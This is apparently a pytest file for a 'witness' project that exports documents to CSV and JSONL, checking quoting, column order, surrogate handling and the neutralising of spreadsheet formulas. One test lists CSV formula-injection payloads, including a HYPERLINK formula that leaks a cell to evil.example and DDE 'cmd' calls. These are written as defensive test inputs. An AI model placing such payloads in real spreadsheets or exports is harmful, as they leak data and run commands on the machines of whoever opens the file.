"""CSV and JSONL exports."""

from __future__ import annotations

import csv
import json

import pytest

from witness.export.tabular import COLUMNS, export_csv, export_jsonl
from witness.model import Document

from test_tei_support import corpus_sample, hand_document


def test_csv_one_row_per_document_with_the_record(tmp_path):
    a, b = hand_document(), hand_document()
    b.id, b.record.authors, b.record.title = "b", ["A, B", "C"], 'Quotes " and\nnewlines'
    assert export_csv([a, b], tmp_path / "out.csv") == 2
    with open(tmp_path / "out.csv", encoding="utf-8", newline="") as fh:
        rows = list(csv.DictReader(fh))
    assert list(rows[0]) == COLUMNS and len(rows) == 2
    assert rows[0]["title"] == "The End of Henry Yagoda" and rows[0]["periodical"] == "Socialist Appeal"
    assert rows[0]["transcribed_by"] == "Einde O’Callaghan" and rows[0]["claims"] == "3"
    assert rows[1]["title"] == 'Quotes " and\nnewlines' and rows[1]["authors"] == "A, B; C"
    assert rows[0]["heading_date"] == "1938-08" and rows[0]["subtitle"].startswith("Stalin")


def test_csv_cells_are_neutralised_against_formula_injection(tmp_path):
    """OWASP: a spreadsheet must show these as text, never run them."""
    attacks = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-2+3",
               "\t=1+1", "\r=1+1", "  =1+1", "\uff1d1+1"]
    docs = []
    for n, title in enumerate(attacks):
        d = hand_document()
        d.id, d.record.title, d.record.authors = f"d{n}", title, ["=cmd|'/C calc'!A0", "Plain Name"]
        docs.append(d)
    export_csv(docs, tmp_path / "out.csv")
    raw = (tmp_path / "out.csv").read_bytes().decode("utf-8")
    with open(tmp_path / "out.csv", encoding="utf-8", newline="") as fh:
        rows = list(csv.DictReader(fh))
    assert [r["title"] for r in rows] == ["'" + t for t in attacks]
    assert all(r["authors"] == "'=cmd|'/C calc'!A0; Plain Name" for r in rows)
    assert rows[0]["claims"] == "3" and rows[0]["id"] == "d0"          # plain cells untouched
    assert raw.startswith('"id","source_path",') and '\r\n"d1","' in raw and ',"3"\r\n' in raw   # all quoted


def test_jsonl_is_the_document_json(tmp_path):
    docs = [hand_document(), hand_document()]
    docs[1].text += "\ud800"                        # a lone surrogate must not break the file
    assert export_jsonl(docs, tmp_path / "out.jsonl") == 2
    lines = (tmp_path / "out.jsonl").read_bytes().splitlines()
    assert len(lines) == 2
    first = json.loads(lines[0])
    assert first == json.loads(json.dumps(docs[0].to_json()))
    assert Document.from_json(first).claims == docs[0].claims
    assert json.loads(lines[1])["text"].endswith("\ud800")


@pytest.mark.corpus
def test_corpus_sample_exports(corpus_root, tmp_path):
    docs = corpus_sample(corpus_root, n=10)
    assert export_csv(docs, tmp_path / "c.csv") == len(docs)
    assert export_jsonl(docs, tmp_path / "c.jsonl") == len(docs)
    back = [Document.from_json(json.loads(l)) for l in (tmp_path / "c.jsonl").read_text("utf-8").splitlines()]
    assert [d.text for d in back] == [d.text for d in docs]
    assert [d.record for d in back] == [d.record for d in docs]
